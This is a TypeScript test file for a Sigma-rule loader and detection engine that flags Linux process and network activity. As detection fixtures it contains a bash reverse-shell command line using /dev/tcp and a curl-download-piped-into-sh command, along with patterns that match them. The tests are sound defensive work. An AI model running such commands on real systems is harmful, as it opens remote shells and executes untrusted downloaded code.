import { describe, expect, it } from 'vitest';
import { batch, proc } from '../../../test/support/fixtures';
import { DEFAULT_ENGINE_OPTIONS, DetectionEngine } from '../engine';
import { ProgramBaseline } from '../baseline';
import { extractFeatures } from '../features';
import { DEFAULT_THRESHOLDS, type DetectionContext } from '../finding';
import { programIdentity } from '../identity';
import type { ProcessActivity } from '../telemetry';
import { RuleFileError } from './compiled-rule';
import { loadRuleSet } from './rule-directory';
import { RuleSet } from './rule-set';

const sigma = (detection: string, over: { category?: string; product?: string; extra?: string } = {}) => `title: Test rule
status: test
tags: [attack.execution, attack.t1059.004]
logsource: { product: ${over.product ?? 'linux'}, category: ${over.category ?? 'process_creation'} }
detection:
${detection}
level: high
${over.extra ?? ''}`;

const load = (text: string) => RuleSet.fromSources([{ file: 'sigma/t.yml', text }]);

function refusal(text: string): string {
  try {
    load(text);
  } catch (err) {
    expect(err).toBeInstanceOf(RuleFileError);
    return (err as RuleFileError).problems.join('\n');
  }
  return expect.unreachable('the rule should have been refused') as never;
}

const exec = (filename: string, argv: string[], over: Partial<ProcessActivity> = {}) =>
  proc({ exe: filename, comm: filename.split('/').pop()!, network: [], files: [], ancestry: ['/usr/bin/bash'], execs: [{ time: 1, filename, argv, ret: 0 }], ...over });

describe('Sigma loading', () => {
  it('refuses unsupported modifiers, naming file, rule and field', () => {
    expect(refusal(sigma('  sel:\n    CommandLine|base64offset|contains: x\n  condition: sel'))).toBe(
      'sigma/t.yml: Sigma rule "Test rule": search "sel", field "CommandLine": modifier "base64offset" is not supported (supported: contains, startswith, endswith, all, re, cidr, gt, gte, lt, lte)',
    );
    expect(refusal(sigma('  sel:\n    CommandLine|windash: x\n  condition: sel'))).toMatch(/field "CommandLine": modifier "windash" is not supported/);
    expect(refusal(sigma('  sel:\n    Image|re|i: x\n  condition: sel'))).toMatch(/modifier "i" is not supported/);
  });

  it('refuses fields we do not have, per category', () => {
    expect(refusal(sigma('  sel:\n    ParentCommandLine|contains: x\n  condition: sel'))).toMatch(
      /sigma\/t.yml: Sigma rule "Test rule": search "sel", field "ParentCommandLine": not available for this category \(supported: Image, CommandLine, ParentImage, User, ContainerId\)/,
    );
    expect(refusal(sigma('  sel:\n    CommandLine: x\n  condition: sel', { category: 'file_event' }))).toMatch(/field "CommandLine": not available/);
  });

  it('refuses other products, categories, keyword lists, aggregations and unused searches', () => {
    expect(refusal(sigma('  sel:\n    Image: x\n  condition: sel', { product: 'windows' }))).toMatch(/logsource.product "windows" is not supported/);
    expect(refusal(sigma('  sel:\n    Image: x\n  condition: sel', { category: 'dns_query' }))).toMatch(/logsource.category "dns_query" is not supported/);
    expect(refusal(sigma('  keywords:\n    - evil\n  condition: keywords'))).toMatch(/keyword lists/);
    expect(refusal(sigma('  sel:\n    Image: x\n  condition: sel | count() > 5'))).toMatch(/aggregations/);
    expect(refusal(sigma('  sel:\n    Image: x\n  other:\n    Image: y\n  condition: sel'))).toMatch(/search "other" is not used/);
    expect(refusal(sigma('  sel:\n    Image: x\n  condition: sel and (nope'))).toMatch(/unknown search "nope"|missing/);
    expect(refusal(sigma('  sel:\n    Image: x\n  condition: sel').replace('tags: [attack.execution, attack.t1059.004]', 'tags: [attack.execution]'))).toMatch(/technique tag/);
  });

  it('matches case-insensitively, with wildcards, all, re, cidr and numeric comparisons', () => {
    const rs = load(sigma("  sel:\n    Image: '*/B?SH'\n    CommandLine|contains|all: [' -i', '/dev/tcp/']\n  condition: sel"));
    const hit = (argv: string[], file = '/usr/bin/bash') => rs.evaluate(ctxOf(exec(file, argv))).length > 0;
    expect(hit(['bash', '-i', '>&', '/dev/tcp/10.0.0.1/4444'])).toBe(true);
    expect(hit(['bash', '-i'])).toBe(false); // all: both needed
    expect(hit(['bash', '-i', '/dev/tcp/x'], '/usr/bin/zsh')).toBe(false);
    const net = load(
      sigma("  sel:\n    DestinationIp|cidr: ['10.0.0.0/8', 'fd00::/8']\n    DestinationPort|lt: 1024\n  condition: sel", { category: 'network_connection' }),
    );
    const conn = (addr: string, port: number) => net.evaluate(ctxOf(proc({ network: [{ op: 'CONNECT', family: addr.includes(':') ? 'INET6' : 'INET', addr, port, ret: 0, count: 1, firstSeen: 0 }] }))).length > 0;
    expect(conn('10.2.3.4', 22)).toBe(true);
    expect(conn('fd12::1', 80)).toBe(true);
    expect(conn('10.2.3.4', 8080)).toBe(false);
    expect(conn('11.2.3.4', 22)).toBe(false);
  });

  it('1 of / all of / not / parentheses', () => {
    const rs = load(sigma("  sel_a:\n    Image|endswith: /curl\n  sel_b:\n    Image|endswith: /wget\n  filter:\n    CommandLine|contains: localhost\n  condition: (1 of sel_*) and not filter"));
    const hit = (file: string, argv: string[]) => rs.evaluate(ctxOf(exec(file, argv))).length > 0;
    expect(hit('/usr/bin/curl', ['curl', 'http://x'])).toBe(true);
    expect(hit('/usr/bin/wget', ['wget', 'http://x'])).toBe(true);
    expect(hit('/usr/bin/wget', ['wget', 'http://localhost/'])).toBe(false);
    expect(hit('/usr/bin/ls', ['ls'])).toBe(false);
  });
});

describe('Sigma end to end through the engine', () => {
  it('a shipped Sigma rule raises an alert during the learning period, naming its technique', () => {
    const engine = new DetectionEngine(loadRuleSet(), DEFAULT_ENGINE_OPTIONS);
    const p = exec('/usr/bin/dash', ['sh', '-c', 'curl -fsSL http://203.0.113.9/i.sh | sh']);
    const res = engine.processBatch(batch(10_000, [p]));
    const alert = res.alerts.find((a) => a.kind === 'sigma-proc-creation-curl-pipe-shell');
    expect(alert, JSON.stringify(res.alerts.map((a) => a.kind))).toBeDefined();
    expect(alert!.mitre).toBe('T1059.004');
    expect(alert!.severity).toBe('high');
    expect(alert!.title).toBe('Download piped into a shell interpreter');
    expect(alert!.data).toMatchObject({ source: 'sigma', tactic: 'TA0002' });
    const benign = engine.processBatch(batch(20_000, [exec('/usr/bin/dash', ['sh', '-c', 'curl -o /tmp/i.sh http://203.0.113.9/i.sh'])]));
    expect(benign.alerts.map((a) => a.kind)).not.toContain('sigma-proc-creation-curl-pipe-shell');
  });
});

/** A detection context with an empty, learning baseline (Sigma rules fire regardless). */
function ctxOf(p: ProcessActivity): DetectionContext {
  const program = programIdentity(p);
  return { batch: batch(1, [p]), process: p, program, features: extractFeatures(p), baseline: new ProgramBaseline(program), learning: true, thresholds: DEFAULT_THRESHOLDS };
}
